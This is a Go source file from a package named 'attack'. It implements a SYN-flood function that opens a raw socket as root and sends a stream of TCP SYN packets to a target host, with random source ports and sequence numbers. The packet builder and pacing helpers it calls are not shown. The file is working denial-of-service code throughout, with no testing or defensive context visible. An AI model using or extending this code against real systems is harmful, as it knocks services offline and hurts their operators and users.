package attack

import (
	"context"
	"fmt"
	"math/rand/v2"

	"golang.org/x/sys/unix"
)

// floodSYN sends openings from ports that are drawn.
func floodSYN(ctx context.Context, c FloodConfig) (r FloodResult, err error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return r, fmt.Errorf("opening a raw socket (it needs root): %w", err)
	}
	defer unix.Close(fd)
	rng := rand.New(rand.NewPCG(c.Seed, 0xf2))
	var buf []byte
	paced(ctx, c, &r, func() error {
		p := probe{dst: c.To, src: uint16(1024 + rng.IntN(64000)), seq: rng.Uint32() | 1, id: uint16(rng.Uint32()), win: 64240}
		buf = p.packet(buf, c.Source)
		return unix.Sendto(fd, buf, 0, &unix.SockaddrInet4{Addr: c.To.Addr().As4()})
	})
	return r, nil
}
